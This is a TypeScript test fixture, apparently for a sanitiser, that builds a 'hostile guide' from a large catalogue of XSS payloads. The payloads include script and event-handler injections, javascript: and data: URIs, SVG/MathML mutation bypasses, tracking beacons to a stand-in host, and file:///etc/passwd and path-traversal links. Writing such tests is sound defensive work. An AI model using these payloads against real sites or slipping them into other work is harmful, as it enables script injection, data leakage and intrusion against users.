/** What each vector does if it runs at all: marks every window it can reach, and the log of requests. */
const mark = "window.__pwn=1;top.__pwn=1;parent.__pwn=1;document.title='__pwn'";
const host = 'https://tracker.invalid';

/** HTML that attacks: as a block of its own and inside a line. */
export const hostileHtml: readonly string[] = [
  `<script>${mark}</script>`,
  `<script src="${host}/a.js"></script>`,
  `<script type="module">${mark}</script>`,
  `<ScRiPt>${mark}</sCrIpT>`,
  `<img src=x onerror="${mark}">`,
  `<img src="${host}/a.png" onload="${mark}">`,
  `<img src="/static/img/nurse.png" onload="${mark}">`,
  `<img srcset="${host}/b.png 1x, ${host}/c.png 2x">`,
  `<IMG SRC=javascript:${mark}>`,
  `<image src=x onerror="${mark}">`,
  `<svg onload="${mark}"></svg>`,
  `<svg/onload=${mark}>`,
  `<svg><script>${mark}</script></svg>`,
  `<svg><animate onbegin="${mark}" attributeName=x dur=1s></svg>`,
  `<svg><set onbegin="${mark}" attributename=x></svg>`,
  `<svg><a xlink:href="javascript:${mark}"><text y=20>x</text></a></svg>`,
  `<svg><use href="${host}/d.svg#x"></use></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${mark}</script>"></iframe></foreignObject></svg>`,
  `<svg></p><style><g title="</style><img src=x onerror='${mark}'>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${mark}"></style></mglyph></table></mtext></math>`,
  `<math><a xlink:href="javascript:${mark}">x</a></math>`,
  `<iframe srcdoc="<script>${mark}</script>"></iframe>`,
  `<iframe src="javascript:${mark}"></iframe>`,
  `<iframe src="${host}/e.html"></iframe>`,
  `<iframe src="app://ui/index.html"></iframe>`,
  `<iframe src="data:text/html,<script>${mark}</script>"></iframe>`,
  `<frameset><frame src="javascript:${mark}"></frameset>`,
  `<object data="${host}/f.swf"></object>`,
  `<object data="data:text/html;base64,PHNjcmlwdD50b3AuX19wd249MTwvc2NyaXB0Pg=="></object>`,
  `<embed src="data:text/html,<script>${mark}</script>">`,
  `<embed src="${host}/g.pdf">`,
  `<applet code="x" archive="${host}/h.jar"></applet>`,
  `<portal src="${host}/i.html"></portal>`,
  `<style>body{background:url(${host}/j.png)}</style>`,
  `<style>@import url("${host}/k.css");</style>`,
  `<style>@font-face{font-family:x;src:url(${host}/l.woff2)}*{font-family:x}</style>`,
  `<link rel="stylesheet" href="${host}/m.css">`,
  `<link rel="preload" as="image" href="${host}/n.png">`,
  `<link rel="dns-prefetch" href="//o.tracker.invalid">`,
  `<link rel="manifest" href="${host}/p.json">`,
  `<meta http-equiv="refresh" content="0;url=${host}/q">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${mark}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`,
  `<base href="${host}/">`,
  `<base target="_blank">`,
  `<form action="${host}/r"><input name=a autofocus onfocus="${mark}"><button>go</button></form>`,
  `<form><button formaction="javascript:${mark}">go</button></form>`,
  `<input type=image src="${host}/s.png">`,
  `<input onfocus="${mark}" autofocus>`,
  `<select autofocus onfocus="${mark}"></select>`,
  `<textarea autofocus onfocus="${mark}"></textarea>`,
  `<isindex action="javascript:${mark}" type=submit>`,
  `<details open ontoggle="${mark}"><summary>x</summary></details>`,
  `<video src="${host}/t.mp4" autoplay onerror="${mark}"></video>`,
  `<video poster="${host}/u.png"><source onerror="${mark}"></video>`,
  `<audio src=x onerror="${mark}"></audio>`,
  `<marquee onstart="${mark}">x</marquee>`,
  `<body onload="${mark}" background="${host}/v.png">`,
  `<table background="${host}/w.png"><tr><td>x</td></tr></table>`,
  `<div style="position:fixed;inset:0;background:url(${host}/x.png)">x</div>`,
  `<div onpointerenter="${mark}" onclick="${mark}">x</div>`,
  `<a href="javascript:${mark}">x</a>`,
  `<a href="${host}/y" ping="${host}/z" target="_blank">x</a>`,
  `<a id=app name=app href="x:">x</a><a id=__pwn></a>`,
  `<img name=app id=__pwn2 src=x>`,
  `<template shadowrootmode=open><img src=x onerror="${mark}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror='${mark}'>"></noscript>`,
  `<xmp><img title="</xmp><img src=x onerror='${mark}'>"></xmp>`,
  `<keygen autofocus onfocus="${mark}">`,
  `<x onfocus="${mark}" tabindex=1 autofocus id=x>x</x>`,
  `<dialog open oncancel="${mark}">x</dialog>`,
  `<custom-element onclick="${mark}">x</custom-element>`,
];

/** Markdown that attacks without any HTML. */
export const hostileMarkdown: readonly string[] = [
  `[a](javascript:${encodeURI(mark)})`,
  `[b](<javascript:${mark}>)`,
  `[c](JaVaScRiPt:top.__pwn=1)`,
  `[d](java&#10;script:top.__pwn=1)`,
  `[e](&#x6A;avascript:top.__pwn=1)`,
  `[f](vbscript:msgbox(1))`,
  `[g](<data:text/html,<script>${mark}</script>>)`,
  `[h](file:///etc/passwd)`,
  `[i](ms-msdt:/id)`,
  `[j](app://ui/index.html)`,
  `[k](blob:app://ui/1)`,
  `<javascript:top.__pwn=1>`,
  `[l]\n\n[l]: javascript:top.__pwn=1`,
  `![m](${host}/aa.png)`,
  `![n](//tracker.invalid/bb.png)`,
  `![o](\\\\tracker.invalid\\share\\cc.png)`,
  `![p](file:///etc/passwd)`,
  `![q](<x" onerror="${mark}>)`,
  `![r](javascript:top.__pwn=1)`,
  `![s](data:text/html,dd)`,
  `![t](app://ui/index.html)`,
  `![u](../../../../etc/passwd)`,
  `![v](/static/../../../etc/passwd)`,
  `![w](/static/img/%2e%2e%2f%2e%2e%2fsecret.png)`,
  '``` "onclick="top.__pwn=1\ncode\n```',
  '```html\n<script>top.__pwn=1</script>\n```',
  `[x](${host}/ee "\\" onclick=\\"top.__pwn=1")`,
  `| <img src=x onerror=top.__pwn=1> | b |\n| --- | --- |\n| <script>top.__pwn=1</script> | [x](javascript:top.__pwn=1) |`,
  `[^1]\n\n[^1]: <img src=x onerror=top.__pwn=1>`,
  `# <img src=x onerror=top.__pwn=1> {#x onclick=top.__pwn=1}`,
];

/** Values that attack from the guide details. */
const values: readonly string[] = [
  `<img src=x onerror="${mark}">`,
  `<script>${mark}</script>`,
  `"><svg onload=${mark}>`,
  `javascript:${mark}`,
  `${host}/details.png`,
];

/** Number of different vectors in a hostile guide. */
export const vectorCount = hostileHtml.length + hostileMarkdown.length + values.length;

/** The paragraph that follows the vector at an index: shown, it proves that nothing was swallowed. */
export function markerOf(index: number): string {
  return `marker-${index}-end`;
}

/** Number of paragraphs `markerOf` in a hostile guide. */
export const markerCount = hostileHtml.length + hostileMarkdown.length;

/** A guide whose details and body hold every vector. */
export function hostileGuide(): string {
  const [image = '', script = '', svg = '', scheme = '', beacon = ''] = values;
  const details = {
    category: svg,
    keywords: values,
    meta_description: image,
    related_jobs: [script, '../../../etc/passwd', 'data_analyst'],
    slug: image,
    tags: values,
    thumbnail: beacon,
    hero_image: scheme,
    title: `${script}${image}`,
    [script]: image,
  };
  const body = [...hostileHtml.map((one) => `${one}\n\ninline ${one}`), ...hostileMarkdown].map(
    // Some HTML goes on until its end is seen; here it is.
    (one, index) => `${one}\n\n</script></style></textarea></xmp>-->]]>\n\n${markerOf(index)}\n`,
  );
  return `---json\n${JSON.stringify(details, null, 2)}\n---\n# ${image}\n\n${body.join('\n')}`;
}
